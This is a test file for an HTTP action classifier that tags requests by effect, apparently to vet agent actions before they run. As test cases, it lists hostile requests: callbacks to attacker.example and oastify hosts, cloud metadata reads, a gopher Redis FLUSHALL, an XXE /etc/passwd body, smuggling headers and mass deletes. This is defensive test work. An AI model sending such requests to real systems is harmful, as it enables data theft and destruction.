import type { Effect } from '@countersign/kernel';
import { describe, expect, it } from 'vitest';
import { analysisOf, unreadable } from '../analysis.ts';
import { EMPTY_CATALOGUE } from '../catalogue.ts';
import { readDatastore } from '../datastore/reader.ts';
import { createDispatch } from '../dispatch.ts';
import { effectOf } from './effects.ts';
import { readHttp } from './reader.ts';

const dispatch = createDispatch(
  new Map([
    ['http', readHttp],
    ['shell', (action) => unreadable(action.text, `shell: ${action.text}`)],
    [
      'sql',
      (action) =>
        action.dialect === ''
          ? analysisOf([effectOf({ kind: 'schema_drop' }, { start: 0, end: action.text.length })])
          : unreadable(action.text, `sql: ${action.text}`),
    ],
    ['datastore', readDatastore],
    ['mcp_tool', (action) => unreadable(action.text, 'mcp')],
  ]),
  'worker',
);

function effects(text: string, payload?: unknown): readonly Effect[] {
  const payloadJson = payload === undefined ? undefined : new TextEncoder().encode(JSON.stringify(payload));
  return dispatch(
    { kind: 'http', name: '', text, dialect: '', ...(payloadJson === undefined ? {} : { payloadJson }) },
    EMPTY_CATALOGUE,
  ).effects;
}

/** `kind scope` of each effect, without repeats. */
function told(text: string, payload?: unknown): string {
  return [...new Set(effects(text, payload).map(({ kind, scope }) => `${kind} ${scope}`))].join(', ');
}

const ES = 'http://localhost:9200';
const MEILI = 'http://localhost:7700';
const ALGOLIA = 'https://abc-dsn.algolia.net/1';
const GITLAB = 'https://gitlab.corp.example/api/v4';
const JENKINS = 'http://jenkins.corp.example';

const cases: readonly (readonly [request: string, effects: string])[] = [
  ['GET https://docs.example.org/guide', 'read bounded'],
  ['HEAD https://docs.example.org/guide', 'read bounded'],
  ['GET https://docs.example.org/how-to/delete', 'read bounded'],
  ['GET http://api.svc/items?action=delete', 'read bounded, delete unknown'],
  ['POST https://api.example.org/orders', 'write bounded, network one'],
  ['PATCH http://orders.internal/orders/7', 'write bounded, network one'],
  ['DELETE https://api.example.org/orders/7', 'delete unknown, network one'],
  ['POST http://orders.internal/admin/shutdown', 'write bounded, network one, process_control one'],
  ['BREW http://pot.internal/', 'opaque unknown'],
  ['CONNECT http://proxy.internal:3128', 'network one'],
  [`GET ${ES}/_cat/indices?v`, 'read bounded'],
  [`GET ${ES}/`, 'read bounded'],
  [`POST ${ES}/orders/_search\n\n{"query":{"match_all":{}}}`, 'read bounded'],
  [`POST ${ES}/_msearch`, 'read bounded'],
  [`POST ${ES}/_analyze`, 'none one'],
  [`POST ${ES}/orders/_doc\n\n{"a":1}`, 'write one'],
  [`PUT ${ES}/orders/_doc/7\n\n{"a":1}`, 'write one'],
  [`DELETE ${ES}/orders/_doc/7`, 'delete unknown'],
  [`DELETE ${ES}/orders`, 'schema_drop one'],
  [`DELETE ${ES}/orders-2023,orders-2024`, 'schema_drop bounded'],
  [`DELETE ${ES}/orders-*`, 'schema_drop bounded'],
  [`DELETE ${ES}/_all`, 'schema_drop unbounded'],
  [`DELETE ${ES}/%2A`, 'schema_drop unbounded'],
  [`DELETE ${ES}/x/%2e%2e/_all`, 'schema_drop unbounded'],
  [`DELETE ${ES}//_all`, 'schema_drop unbounded'],
  [`DELETE ${ES}/_data_stream/app`, 'schema_drop one'],
  [`DELETE ${ES}/_snapshot/nightly/one`, 'infra_destroy one'],
  [`DELETE ${ES}/_search/scroll`, 'session one'],
  [`POST ${ES}/orders/_delete_by_query\n\n{"query":{"match_all":{}}}`, 'delete unbounded'],
  [`POST ${ES}/orders/_delete_by_query\n\n{"query":{"term":{"id":7}}}`, 'delete bounded'],
  [`POST ${ES}/orders/_delete_by_query\n\n{"query":{"bool":{"must":[{"match_all":{}}]}}}`, 'delete unbounded'],
  [`POST ${ES}/orders/_delete_by_query\n\n{"query":{"bool":{"filter":[{"term":{"a":1}}]}}}`, 'delete bounded'],
  [`POST ${ES}/orders/_delete_by_query\n\n{"query":{"bool":{"should":[{"term":{"a":1}},{"match_all":{}}]}}}`, 'delete unbounded'],
  [`POST ${ES}/orders/_delete_by_query?q=*:*`, 'delete unbounded'],
  [`POST ${ES}/orders/_delete_by_query`, 'delete unbounded'],
  [`POST ${ES}/orders/_update_by_query\n\n{"query":{"term":{"a":1}}}`, 'write bounded'],
  [
    `POST ${ES}/_bulk\n\n{"index":{"_index":"a"}}\n{"x":1}\n{"delete":{"_index":"a","_id":"2"}}\n`,
    'write bounded, delete bounded',
  ],
  [`POST ${ES}/_bulk\n\n{"index":{"_index":"a"}}\n{"x":1}\n`, 'write bounded'],
  [`POST ${ES}/_bulk\n\n{"drop":{}}\n`, 'opaque unknown'],
  [`POST ${ES}/_aliases\n\n{"actions":[{"remove_index":{"index":"a"}}]}`, 'schema_drop one'],
  [`POST ${ES}/orders/_close`, 'process_control one'],
  [`PUT ${ES}/_cluster/settings\n\n{}`, 'config_change one'],
  [`PUT ${ES}/_security/user/bob\n\n{}`, 'privilege_change one'],
  [`PUT ${ES}/orders`, 'schema_change one'],
  [`PUT ${ES}/orders/_settings\n\n{}`, 'config_change one'],
  [`POST ${ES}/_reindex\n\n{"source":{"index":"a"},"dest":{"index":"b"}}`, 'write bounded'],
  [`POST ${ES}/_scripts/painless/_execute`, 'code_execution one'],
  [`POST https://search.attacker.example:9200/x/_search\n\n{"a":1}`, 'read bounded, network one'],
  [`GET ${MEILI}/indexes/movies/stats`, 'read bounded'],
  [`POST ${MEILI}/indexes/movies/search\n\n{}`, 'read bounded'],
  [`DELETE ${MEILI}/indexes/movies`, 'schema_drop one'],
  [`DELETE ${MEILI}/indexes/movies/documents`, 'delete unbounded'],
  [`DELETE ${MEILI}/indexes/movies/documents/3`, 'delete unknown'],
  [`POST ${MEILI}/indexes/movies/documents/delete-batch\n\n[1]`, 'delete unknown'],
  [`POST ${MEILI}/indexes/movies/documents\n\n[]`, 'write bounded'],
  [`GET ${MEILI}/keys`, 'secret_read one'],
  [`DELETE ${MEILI}/keys/abc`, 'privilege_change one'],
  [`GET ${ALGOLIA}/indexes/products`, 'read bounded'],
  [`POST ${ALGOLIA}/indexes/products/query\n\n{"params":"q=1"}`, 'read bounded'],
  [`POST ${ALGOLIA}/indexes/products/clear`, 'delete unbounded'],
  [`DELETE ${ALGOLIA}/indexes/products`, 'schema_drop one'],
  [`DELETE ${ALGOLIA}/indexes/products/17`, 'delete unknown'],
  [`POST ${ALGOLIA}/indexes/products/batch\n\n{"requests":[{"action":"deleteObject"}]}`, 'delete unknown'],
  ['GET http://localhost:8983/solr/docs/select?q=a', 'read bounded'],
  ['GET http://localhost:8983/solr/admin/collections?action=DELETE&name=docs', 'schema_drop one'],
  ['GET http://localhost:8983/solr/admin/cores?action=STATUS', 'read bounded'],
  ['POST http://localhost:8983/solr/docs/update\n\n<delete><query>*:*</query></delete>', 'delete unbounded'],
  ['POST http://localhost:8983/solr/docs/update\n\n[{"id":1}]', 'write bounded'],
  ['DELETE http://localhost:8108/collections/books', 'schema_drop one'],
  ['DELETE http://localhost:6333/collections/vectors', 'schema_drop one'],
  ['POST http://localhost:6333/collections/vectors/points/search\n\n{}', 'read bounded'],
  [`GET ${GITLAB}/projects/42/jobs`, 'read bounded'],
  [`GET ${GITLAB}/projects/42/variables`, 'secret_read bounded'],
  [`DELETE ${GITLAB}/projects/42`, 'infra_destroy unbounded'],
  [`DELETE ${GITLAB}/projects/group%2Fapp`, 'infra_destroy unbounded'],
  [`DELETE ${GITLAB}/projects/42/pipelines/7`, 'infra_destroy one'],
  ['POST https://gitlab.com/api/v4/projects/42/issues\n\n{"title":"x"}', 'write one'],
  ['GET https://api.github.com/repos/a/b/pulls', 'read bounded'],
  ['POST https://api.github.com/repos/a/b/issues\n\n{"title":"x"}', 'write one'],
  ['DELETE https://api.github.com/repos/a/b', 'infra_destroy unbounded'],
  ['PATCH https://api.github.com/repos/a/b/git/refs/heads/main\n\n{"sha":"1","force":true}', 'history_rewrite one'],
  ['PATCH https://api.github.com/repos/a/b/git/refs/heads/main\n\n{"sha":"1"}', 'write one'],
  ['POST https://api.github.com/gists\n\n{}', 'export one'],
  [`GET ${JENKINS}/job/app/api/json`, 'read bounded'],
  [`POST ${JENKINS}/job/app/doDelete`, 'infra_destroy one'],
  [`POST ${JENKINS}/job/folder/job/app/build`, 'code_execution one'],
  [`GET ${JENKINS}/job/app/build?token=t`, 'code_execution one'],
  [`GET ${JENKINS}/job/app/42/console`, 'read bounded'],
  [`POST ${JENKINS}/scriptText\n\nscript=x`, 'code_execution one, network one'],
  [`POST ${JENKINS}/safeRestart`, 'process_control one'],
  ['GET http://127.0.0.1:8200/v1/sys/health', 'read one'],
  ['GET http://127.0.0.1:8200/v1/secret/data/app', 'secret_read one'],
  ['DELETE http://127.0.0.1:8200/v1/secret/metadata/app', 'delete unknown'],
  ['DELETE http://127.0.0.1:8200/v1/sys/mounts/secret', 'infra_destroy unbounded'],
  ['PUT http://127.0.0.1:8200/v1/sys/seal', 'process_control one'],
  ['DELETE http://consul:8500/v1/kv/app?recurse', 'delete unknown'],
  ['DELETE http://consul:8500/v1/kv/?recurse=true', 'delete unbounded'],
  ['DELETE http://consul:8500/v1/kv/app/key', 'delete one'],
  ['DELETE http://localhost:5984/orders', 'schema_drop one'],
  ['DELETE http://localhost:5984/orders/doc1?rev=1-a', 'delete one'],
  ['POST http://localhost:5984/orders/_find\n\n{"selector":{}}', 'read bounded'],
  ['POST http://etcd:2379/v3/kv/deleterange\n\n{"key":"AA==","range_end":"AA=="}', 'delete unbounded'],
  ['POST http://etcd:2379/v3/kv/range\n\n{"key":"YQ=="}', 'read bounded'],
  ['POST http://localhost:9090/api/v1/admin/tsdb/delete_series?match[]=up', 'delete unknown'],
  ['POST http://localhost:9090/api/v1/query\n\nquery=up', 'read bounded'],
  ['GET https://10.0.0.1:6443/api/v1/namespaces/a/pods', 'read bounded'],
  ['GET https://10.0.0.1:6443/api/v1/namespaces/a/secrets/db', 'secret_read bounded'],
  ['DELETE https://10.0.0.1:6443/api/v1/namespaces/a', 'infra_destroy unbounded'],
  ['DELETE https://10.0.0.1:6443/api/v1/namespaces/a/pods/x', 'infra_destroy one'],
  ['DELETE https://10.0.0.1:6443/apis/apps/v1/namespaces/a/deployments', 'infra_destroy unbounded'],
  ['DELETE https://10.0.0.1:6443/apis/apps/v1/namespaces/a/deployments/web?dryRun=All', 'none one'],
  ['GET http://localhost:2375/v1.43/containers/json', 'read bounded'],
  ['DELETE http://localhost:2375/v1.43/volumes/data', 'infra_destroy one'],
  [
    'POST http://localhost:2375/containers/create\n\n{"Image":"a","HostConfig":{"Privileged":true}}',
    'infra_create one, privilege_change one',
  ],
  ['DELETE http://mq:15672/api/queues/%2F/jobs/contents', 'delete unbounded'],
  ['DELETE https://api.cloudflare.com/client/v4/zones/abc', 'infra_destroy unbounded'],
  ['DELETE https://api.stripe.com/v1/customers/cus_1', 'delete unknown'],
  ['GET https://api.stripe.com/v1/charges', 'read bounded'],
  ['DELETE https://api.pagerduty.com/services/P1', 'infra_destroy one'],
  ['DELETE https://app.launchdarkly.com/api/v2/flags/p/f', 'infra_destroy one'],
  ['POST https://hooks.slack.com/services/T/B/x\n\n{"text":"hi"}', 'write bounded, network one, export bounded'],
  ['PUT https://transfer.sh/a.tgz', 'write bounded, network one, export bounded'],
  ['GET https://abc.oastify.com/?d=x', 'read bounded, network one'],
  ['POST http://localhost:8123/?query=DROP%20TABLE%20t', 'opaque unknown'],
  ['GET file:///etc/hosts', 'opaque unknown'],
  ['GET gopher://redis:6379/_FLUSHALL', 'opaque unknown, network one'],
  ['PUT ftp://files.example.org/a', 'export bounded'],
  ['GET https://api.example.org/x\nX-HTTP-Method-Override: DELETE', 'read bounded, delete unknown, network one'],
  ['POST https://api.example.org/x\nX-HTTP-Method-Override: GET', 'write bounded, network one, read bounded'],
  ['POST http://a.internal/x?_method=delete', 'write bounded, network one, delete unknown'],
  ['GET https://api.example.org/?key=AKIAABCDEFGHIJKLMNOP', 'read bounded, export one'],
  ['GET http://169.254.169.254/latest/meta-data/', 'read bounded, secret_read bounded'],
  ['GET http://[::ffff:a9fe:a9fe]/', 'read bounded, secret_read bounded'],
  ['PUT http://metadata.google.internal/x', 'write bounded, network one, secret_read bounded'],
  [
    'POST http://a.internal/x\nContent-Length: 3\nTransfer-Encoding: chunked\n\nabc',
    'write bounded, network one, opaque unknown',
  ],
  ['GET http://a.internal/x\nX-Original-URL: /admin', 'read bounded, opaque unknown'],
  [`GET https://a.example.org/?d=${'x'.repeat(2100)}`, 'read bounded, network one'],
  [`GET https://${'0a'.repeat(25)}.example.org/`, 'read bounded, network one'],
  ['POST http://db.internal/api\n\n{"sql":"DROP TABLE t"}', 'write bounded, network one, schema_drop one'],
  ['POST http://db.internal/api\n\n{"note":"DROP TABLE t"}', 'write bounded, network one'],
  [`GET ${ES}/.security-7/_search`, 'read bounded, secret_read one'],
  [`DELETE ${ES}/.security-7`, 'schema_drop one, privilege_change one'],
  [`POST ${ES}/_plugins/_sql\n\n{"query":"DELETE FROM a"}`, 'opaque unknown'],
  ['GET http://localhost:8983/solr/docs/select?qt=/update', 'opaque unknown'],
  ['GET http://localhost:8983/solr/docs/stream?expr=update(a)', 'opaque unknown'],
  ['GET wss://feed.example.org/', 'read bounded, network one'],
  ['GET https://kubernetes.io/docs/concepts/secrets', 'read bounded'],
  ['GET https://vault.corp.example/ui/', 'read one'],
  ['GET http://web.internal/static/drop-down.css', 'read bounded'],
  ['GET http://web.internal/clear-cache', 'read bounded, delete unknown'],
  ['PUT https://logs.s3.eu-west-1.amazonaws.com/a', 'export one'],
  ['PUT https://s3.amazonaws.com/logs', 'infra_create one'],
  ['DELETE https://logs.s3.amazonaws.com/a/b', 'delete unknown'],
  ['DELETE https://s3.eu-west-1.amazonaws.com/logs', 'infra_destroy one'],
  ['GET https://logs.s3.amazonaws.com/a/b', 'read bounded'],
  ['POST https://ec2.eu-west-1.amazonaws.com/?Action=TerminateInstances', 'infra_destroy one'],
  ['POST https://ec2.eu-west-1.amazonaws.com/\n\nAction=DescribeInstances', 'read bounded'],
  ['POST https://secretsmanager.eu-west-1.amazonaws.com/\nX-Amz-Target: secretsmanager.GetSecretValue\n\n{}', 'secret_read one'],
  ['POST https://iam.amazonaws.com/\n\nAction=AttachUserPolicy', 'privilege_change one'],
  [
    'POST https://dynamodb.eu-west-1.amazonaws.com/\nX-Amz-Target: DynamoDB_20120810.DeleteTable\n\n{"TableName":"t"}',
    'schema_drop one',
  ],
  ['', 'opaque unknown'],
  ['GET', 'opaque unknown'],
  ['hello there', 'opaque unknown'],
  ['GET /relative', 'opaque unknown'],
  ['GET /x HTTP/1.1\nHost: docs.example.org', 'read bounded'],
  ['GET https://a.example/\nHost: b.example', 'opaque unknown'],
  ['GET https://$HOST/x', 'opaque unknown'],
  ['DELETE https://${HOST}/x', 'opaque unknown, delete unknown'],
  ['DELETE http://localhost:9200/orders/_doc/$ID', 'delete unknown'],
  ['GET https://example.org\\@127.0.0.1/', 'opaque unknown'],
  ['GET https://github.com@evil.example/', 'opaque unknown'],
  ['GET https://a@b@c/', 'opaque unknown'],
];

describe('readHttp', () => {
  it.each(cases)('%s', (request, expected) => {
    expect(told(request)).toBe(expected);
  });

  it('reads GraphQL', () => {
    const post = (query: string, more: object = {}): string =>
      told(`POST https://api.example.org/graphql`, {
        method: 'POST',
        url: 'https://api.example.org/graphql',
        body: { query, ...more },
      });
    expect(post('{ me { id } }')).toBe('read bounded');
    expect(post('query A { me { id } }')).toBe('read bounded');
    expect(post('mutation { createUser(name: "a") { id } }')).toBe('write bounded, network one');
    expect(post('mutation { deleteUser(id: 1) { id } }')).toBe('delete unknown, network one');
    expect(post('mutation { ...F } fragment F on Mutation { deleteAllUsers }')).toBe('delete unbounded, network one');
    expect(post('query A { a } mutation B { deleteUser }')).toBe('opaque unknown, network one');
    expect(post('query A { a } mutation B { deleteUser }', { operationName: 'A' })).toBe('read bounded');
    expect(post('query A { a } mutation B { deleteUser }', { operationName: 'B' })).toBe('delete unknown, network one');
    expect(post('{ broken')).toBe('opaque unknown, network one');
    expect(post(`{ a ${'{ a '.repeat(200)}${'}'.repeat(200)} }`)).toBe('opaque unknown, network one');
    expect(told('GET https://api.example.org/graphql?query=mutation%7BdeleteUser%7D')).toBe('delete unknown');
  });

  it('takes the payload of callers like curl', () => {
    const url = 'https://files.example.org/in';
    expect(told(`POST ${url}`, { method: 'POST', url, upload: true })).toBe('write bounded, network one, export bounded');
    expect(told(`POST ${ES}/a/_search`, { method: 'POST', url: `${ES}/a/_search`, upload: true, body: '@q.json' })).toBe(
      'read bounded',
    );
    expect(told(`GET ${url}`, { method: 'DELETE', url })).toBe('opaque unknown');
    expect(told('', { url })).toBe('read bounded');
    expect(told('', { url, body: 'a' })).toBe('write bounded, network one');
    expect(
      told('GET http://localhost/containers/json', {
        method: 'GET',
        url: 'http://localhost/containers/json',
        unixSocket: '/var/run/docker.sock',
      }),
    ).toBe('read bounded');
    expect(told('', { url, headers: ['X-HTTP-Method: DELETE'] })).toBe('read bounded, delete unknown, network one');
    expect(told('', { url, body: '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a/>' })).toContain('opaque');
    expect(told('', { url: 'https://tools.example.org/mcp', body: { jsonrpc: '2.0', method: 'tools/call', params: {} } })).toBe(
      'opaque unknown, network one',
    );
  });

  it('points at the words that matter and names the host', () => {
    const text = '  DELETE http://localhost:9200/orders HTTP/1.1';
    const [effect] = effects(text);
    expect(text.slice(effect?.span.start, effect?.span.end)).toBe('DELETE http://localhost:9200/orders');
    expect(effect?.targets).toEqual([
      { type: 'index', name: 'orders' },
      { type: 'internal_host', name: 'localhost' },
    ]);
    expect(effect?.via).toBe('Elasticsearch');
    const [writes, connects] = effects('POST http://orders.internal/x');
    expect(writes?.targets).toContainEqual({ type: 'internal_host', name: 'orders.internal' });
    expect(connects?.targets).toEqual([{ type: 'host', name: 'orders.internal' }]);
    expect(effects('GET https://Docs.Example.org./a')[0]?.targets).toContainEqual({ type: 'host', name: 'docs.example.org' });
  });
});
